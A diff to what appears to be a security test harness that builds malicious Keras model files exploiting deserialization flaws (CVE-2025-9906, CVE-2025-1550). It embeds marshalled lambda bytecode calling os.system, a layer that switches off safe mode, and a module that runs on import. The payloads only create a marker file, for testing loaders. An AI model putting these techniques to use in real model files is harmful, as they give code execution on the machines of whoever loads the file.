@@ -86,18 +86,33 @@ class Case:
             return [{"args": [value], "kwargs": arguments}]
         return [["_CONSTANT_VALUE", -1, value, arguments]]
 
-    def bytecode(self) -> dict[str, Any]:
-        """Returns a function of Python that makes the mark, as Keras keeps a lambda."""
+    def bytecode(self) -> Any:
+        """Returns a function of Python that makes the mark, as the family keeps a lambda."""
         source = f"lambda x: (__import__('os').system('touch {self.mark}'), x)[1]"
-        code = eval(source).__code__
-        words = {"code": base64.b64encode(marshal.dumps(code)).decode()}
-        return {
-            "class_name": "__lambda__",
-            "config": {**words, "defaults": None, "closure": None},
-        }
+        code = base64.b64encode(marshal.dumps(eval(source).__code__)).decode()
+        if not self.is_keras_3:
+            return [code, None, None]
+        words = {"code": code, "defaults": None, "closure": None}
+        return {"class_name": "__lambda__", "config": words}
+
+    def lambda_layer(
+        self, kind: str, called: Any, value: Any = 1.0, name: str = "added", /, **arguments: Any
+    ) -> Any:
+        """Returns a Lambda that is called on a value.
+
+        Args:
+          kind: 'lambda' for bytecode, and 'function' for a named one.
+          arguments: of the function, besides the value.
+        """
+        config = {"function": called, "arguments": arguments}
+        calls = [{"args": [], "kwargs": {"inputs": value}}]
+        if not self.is_keras_3:
+            config |= {"function_type": kind, "output_shape": None, "output_shape_type": "raw"}
+            calls = self.call(value)
+        return layer("Lambda", config, inbound=calls, name=name)
 
     def bad_lambda(self, name: str = "bad") -> dict[str, Any]:
-        return layer("Lambda", {"function": self.bytecode()}, name=name, inbound=self.call(1.0))
+        return self.lambda_layer("lambda", self.bytecode(), 1.0, name)
 
 
 def packed(parts: Mapping[str, Any]) -> bytes:
@@ -160,20 +175,15 @@ def attack(name: str, source: str, **options: Any) -> Callable[[Any], Any]:
 
 
 def lambda_of(
-    name: str, source: str, module: str, symbol: str, call: Callable[[Case], Any], **arguments: Any
+    name: str, source: str, module: str, symbol: str, call: Callable[[Case], Any]
 ) -> None:
     """Adds an attack: a Lambda that names a function of any module, and is called at once."""
 
     def build(case: Case) -> Path:
         value, named = call(case)
-        if not case.is_keras_3:
-            module_of_family = module.replace("keras.", "tf_keras.")
-        else:
-            module_of_family = module
-        config = {"function": function(symbol, module_of_family), "arguments": dict(arguments)}
-        added = layer("Lambda", {**config, "function_type": "function"})
-        added["inbound_nodes"] = case.call(value, **named)
-        return case.with_layers(added)
+        path = module if case.is_keras_3 else module.replace("keras.", "tf_keras.")
+        named_function = function(symbol, path)
+        return case.with_layers(case.lambda_layer("function", named_function, value, **named))
 
     ATTACKS[name] = Attack(source, build)
 
@@ -286,8 +296,8 @@ lambda_of(
 
 @attack("safe mode switched off, and bytecode behind it", "CVE-2025-9906")
 def _unsafe(case: Case) -> Path:
-    off = layer("Lambda", {"function": function("enable_unsafe_deserialization", "keras.config")})
-    off["inbound_nodes"] = case.call(1.0)
+    switch = function("enable_unsafe_deserialization", "keras.config")
+    off = case.lambda_layer("function", switch)
     return case.with_layers(off, case.bad_lambda("worse"))
 
 
@@ -311,7 +321,7 @@ def _function(case: Case) -> Path:
 
 @attack("a module that acts when it is imported", "CVE-2025-1550")
 def _module(case: Case) -> Path:
-    (case.folder / "evil_module.py").write_text(f"open({str(case.mark)!r}, 'w')")
+    (case.folder.parent / "evil_module.py").write_text(f"open({str(case.mark)!r}, 'w')")
     return case.with_config({**case.config(), "module": "evil_module", "class_name": "Model"})
 
 
@@ -402,8 +412,8 @@ for _wrapper, _key in (
 @attack("a registered name beside a class of the list", "KERAS-MFV-004, keras #22729")
 def _registered(case: Case) -> Path:
     module = "keras.src.layers.core.lambda_layer"
-    added = layer("Dense", {"function": case.bytecode()}, module=module)
-    return case.with_layers({**added, "registered_name": "Lambda", "inbound_nodes": case.call(1)})
+    names = {"class_name": "RMSNormalization", "module": module, "registered_name": "Lambda"}
+    return case.with_layers({**case.bad_lambda(), **names})
 
 
 @attack("a registered name of Keras' own", "KERAS-MFV-004")
